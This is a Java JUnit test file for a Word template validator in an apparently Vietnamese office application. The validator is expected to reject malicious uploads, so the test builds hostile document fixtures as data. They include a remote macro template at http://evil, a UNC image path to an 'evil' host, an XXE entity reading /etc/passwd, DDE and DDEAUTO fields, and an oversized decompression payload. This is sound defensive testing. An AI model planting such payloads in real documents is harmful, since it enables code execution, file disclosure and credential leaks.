package vn.dondoc.office;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import org.springframework.context.support.ResourceBundleMessageSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.junit.jupiter.params.provider.Arguments.arguments;

class TemplateCheckTest {

	private static final String BEGIN = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";

	private static final ResourceBundleMessageSource MESSAGES = messages();

	private final TemplateCheck check = new TemplateCheck(new SampleDocument(MESSAGES),
			Clock.fixed(Instant.parse("2025-12-24T03:00:00Z"), ZoneOffset.UTC));

	@Test
	void theDeliveredOnesAreFine() {
		for (String name : Templates.NAMES) {
			assertThat(this.check.require(name, WordPackage.delivered(name).file()).hints()).isEmpty();
		}
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void whatIsWrongIsSaid(String said, byte[] file) {
		assertThatExceptionOfType(TemplateRefused.class).isThrownBy(() -> this.check.require("annex-landscape", file))
			.satisfies((ex) -> assertThat(texts(ex)).anyMatch((text) -> text.contains(said)));
	}

	static Stream<Arguments> whatIsWrongIsSaid() {
		return Stream.of(arguments("tệp rỗng", new byte[0]), arguments("không phải tệp Word", bytes("%PDF-1.7")),
				arguments("đời cũ", new byte[] { (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 1 }),
				arguments("lớn hơn 5 MB", new byte[TemplatePackage.MOST_BYTES + 1]),
				arguments("Không mở được", java.util.Arrays.copyOf(template().file(), 3000)),
				arguments("macro", template().with("word/vbaProject.bin", new byte[1]).file()),
				arguments("macro",
						template().edited("[Content_Types].xml",
								(xml) -> xml.replace("vnd.openxmlformats-officedocument.wordprocessingml.document.main",
										"vnd.ms-word.document.macroEnabled.main"))
							.file()),
				arguments(".dotx",
						template()
							.edited("[Content_Types].xml",
									(xml) -> xml.replace("document.main+xml", "template.main+xml"))
							.file()),
				arguments("attachedTemplate: http://evil/x.dotm", relation("attachedTemplate", "http://evil/x.dotm")),
				arguments("image: \\\\evil\\x.png", relation("image", "\\\\evil\\x.png")),
				arguments("nhúng một đối tượng", template().with("word/embeddings/a.bin", new byte[1]).file()),
				arguments("giải nén ra quá lớn", template().with("word/media/a.bmp", new byte[51 << 20]).file()),
				arguments("Không mở được",
						template()
							.edited("word/styles.xml",
									(xml) -> xml.replaceFirst("\\?>",
											"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>"))
							.file()),
				arguments("trường DDEAUTO", paragraph(BEGIN + instruction("DDE") + instruction("AUTO c:\\\\x"))),
				arguments("trường DDE",
						template()
							.with("word/x.dat",
									bytes("<w:hdr xmlns:w=\"w\"><w:fldSimple w:instr=\"DDE c:\\x\"/></w:hdr>"))
							.file()),
				arguments("trường INCLUDETEXT", paragraph("<w:fldSimple w:instr=\" INCLUDETEXT x\"/>")),
				arguments("trường { }", paragraph(BEGIN + BEGIN + instruction("PAGE")
						+ "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>")),
				arguments("“tieuĐề”. Có phải là {{tieuDe}}?", template().replaced("{{tieuDe}}", "{{tieuĐề}}").file()),
				arguments("không khép đúng", template().replaced("{{nguoiKy}}", "{{nguoiKy}").file()),
				arguments("Thiếu {{bang}}", template().replaced("{{bang}}", "").file()),
				arguments("Thiếu {{noiDung}}", template().replaced("{{noiDung}}", "").file()),
				arguments("{{bang}} phải đứng một lần", template().replaced("{{bang}}", "Bảng: {{bang}}").file()),
				arguments("{{bang}} phải đứng một lần",
						template().replaced("{{bang}}", "").replaced("{{noiNhan}}", "{{bang}}").file()));
	}

	@Test
	void whatTheListOfPartsDoesNotNameIsLeftOut() throws IOException {
		byte[] hiding = template()
			.edited("[Content_Types].xml",
					(xml) -> xml.replace("</Types>", "<Default Extension=\"png\" ContentType=\"image/png\"/></Types>"))
			.with("word/media/a.png", bytes("\u0089PNG"))
			.hiding("word/hidden.xml", bytes("<a/>"));
		assertThat(WordPackage.of(hiding).parts()).contains("word/hidden.xml");
		byte[] checked = this.check.require("annex-landscape", hiding).file();
		assertThat(WordPackage.of(checked).parts()).contains("word/document.xml", "word/media/a.png")
			.doesNotContain("word/hidden.xml");
	}

	@Test
	void whatThePdfLeavesOutIsSaid() {
		byte[] drawn = paragraph("<w:r><w:pict/></w:r>");
		assertThat(this.check.require("annex-landscape", drawn).hints())
			.extracting((hint) -> MESSAGES.getMessage(hint, Locale.forLanguageTag("vi")))
			.singleElement()
			.asString()
			.contains("hình vẽ");
	}

	private static List<String> texts(TemplateRefused ex) {
		return ex.faults().stream().map((fault) -> MESSAGES.getMessage(fault, Locale.forLanguageTag("vi"))).toList();
	}

	private static WordPackage template() {
		return WordPackage.delivered("annex-landscape");
	}

	private static byte[] paragraph(String content) {
		return template().replaced("<w:body>", "<w:body><w:p>" + content + "</w:p>").file();
	}

	private static String instruction(String text) {
		return "<w:r><w:instrText>" + text + "</w:instrText></w:r>";
	}

	private static byte[] relation(String type, String target) {
		return template().edited("word/_rels/document.xml.rels", (xml) -> xml.replace("</Relationships>",
				"<Relationship Id=\"rId99\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
						+ type + "\" Target=\"" + target + "\" TargetMode=\"External\"/></Relationships>"))
			.file();
	}

	private static byte[] bytes(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	private static ResourceBundleMessageSource messages() {
		ResourceBundleMessageSource messages = new ResourceBundleMessageSource();
		messages.setBasename("messages/templates");
		messages.setDefaultEncoding("UTF-8");
		messages.setFallbackToSystemLocale(false);
		return messages;
	}

}
